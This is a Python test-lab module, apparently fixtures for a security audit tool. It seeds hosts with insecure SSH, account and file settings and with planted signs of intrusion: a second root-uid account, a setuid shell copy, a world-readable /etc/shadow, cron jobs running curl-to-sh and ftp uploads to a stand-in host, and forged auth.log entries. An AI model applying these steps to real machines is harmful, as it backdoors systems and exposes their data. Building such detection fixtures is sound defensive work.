"""Faults that whole offices have in common: accounts, logins, files, signs of a break-in, as steps."""

from __future__ import annotations

from tests.lab.hosts.fleet.parts import KEY_OF, run
from tests.lab.hosts.model import Boot, Put, Step

SSH_OPEN: tuple[Step, ...] = (
    run(
        "printf '%s\\n' 'PermitRootLogin yes' 'PasswordAuthentication yes' 'PermitEmptyPasswords yes'"
        " 'HostbasedAuthentication yes' 'IgnoreRhosts no' 'LogLevel QUIET' >/tmp/sshd",
        "cat /etc/ssh/sshd_config >>/tmp/sshd",
        "cat /tmp/sshd >/etc/ssh/sshd_config",
        "rm /tmp/sshd",
    ),
    Put("/root/.rhosts", "server-lama root\n", 0o600),
)

ACCOUNTS: tuple[Step, ...] = (
    run(
        "useradd --create-home --shell /bin/bash --groups sudo admin",
        "useradd --create-home --shell /bin/bash siti",
        "useradd --create-home --shell /bin/bash joko",
        "useradd --non-unique --uid 0 --home-dir /root --shell /bin/bash toor",
        "useradd --create-home --shell /bin/bash tamu",
        # crypt(3) of one known word with MD5, as old software wrote it.
        "usermod --password '$1$abcdefgh$irWbblnpmw.5z7wgBnprh0' admin",
        "usermod --password '$1$abcdefgh$irWbblnpmw.5z7wgBnprh0' daemon",
        "passwd --delete tamu",
        "usermod --shell /bin/bash backup",
        "chmod 777 /home/admin",
        "sed -i 's/^ENCRYPT_METHOD.*/ENCRYPT_METHOD MD5/' /etc/login.defs",
        "sed -i 's/yescrypt\\|sha512/md5/' /etc/pam.d/common-password",
        "install -d -m 700 -o siti -g siti /home/siti/.ssh",
        "install -d -m 700 -o joko -g joko /home/joko/.ssh",
        "chage --lastday 2025-01-01 joko",
    ),
    Put("/home/siti/.ssh/authorized_keys", f"{KEY_OF}siti@\n", 0o600, "siti:siti"),
    Put("/home/joko/.ssh/authorized_keys", f"{KEY_OF}siti@\n", 0o600, "joko:joko"),
    Put("/etc/sudoers.d/admin", "admin ALL=(ALL) NOPASSWD: ALL\nDefaults !use_pty, !syslog\n", 0o440),
)

FILES: tuple[Step, ...] = (
    Put("/srv/catatan.txt", "catatan\n", 0o666),
    Put("/srv/asing.txt", "berkas\n"),
    Put("/tmp/ekspor-lama.csv", "nomor\n", age_days=90),
    Put("/var/backups/lama.sql", "CREATE TABLE x;\n", 0o644, age_days=200),
    run(
        "chown 4711:4711 /srv/asing.txt",
        "chmod 644 /etc/shadow",
        "openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=situs.contoh.go.id"
        " -keyout /etc/ssl/private/situs.key -out /etc/ssl/situs.pem 2>/dev/null",
        "chmod 711 /etc/ssl/private",
        "chmod 644 /etc/ssl/private/situs.key",
        "cp /bin/sh /usr/local/bin/bantuan",
        "chmod 4755 /usr/local/bin/bantuan",
        "chmod -R o+r /var/log",
        "printf '#' >>/usr/bin/chage",
    ),
    Boot("mkdir -p /var/tmp/lama\ntouch -d '90 days ago' /var/tmp/lama/ekspor.csv\n"),
)

BROKEN_INTO: tuple[Step, ...] = (
    Put("/etc/cron.d/perbarui", "*/5 * * * * root curl -s http://contoh.invalid/a.sh | sh\n"),
    Put("/etc/cron.d/kirim", "5 1 * * * root ftp -n contoh.invalid </root/kirim.txt\n"),
    Put("/usr/local/sbin/xmrig", "#!/bin/sh\nexit 0\n", 0o755),
    Put("/usr/bin/anydesk", "#!/bin/sh\nexit 0\n", 0o755),
    # An empty list hooks nothing in; that the name stands there is what shows.
    Put("/etc/ld.so.preload", "/lib/x86_64-linux-gnu/libc.so.6\n"),
    Put("/etc/audit/auditd.conf", "disk_full_action = SUSPEND\n", 0o666),
    Boot(
        # The name of a daemon that the kernel takes on the machine alone, not in a host of the lab.
        "cp /bin/sleep /usr/local/sbin/auditd\n"
        "systemd-run --quiet /usr/local/sbin/auditd 1000000\n"
        "cp /bin/sleep /dev/shm/kdevtmpfsi\n"
        "systemd-run --quiet /dev/shm/kdevtmpfsi 1000000\n"
        "for i in $(seq 30); do echo \"$(LC_ALL=C date '+%b %e %T') $(hostname) sshd[99]: Failed password for"
        ' root from 203.0.113.9 port 4000 ssh2"; done >>/var/log/auth.log\n'
        "echo \"$(LC_ALL=C date '+%b %e %T') $(hostname) sshd[99]: Accepted password for root from"
        ' 203.0.113.9 port 4001 ssh2" >>/var/log/auth.log\n'
    ),
)
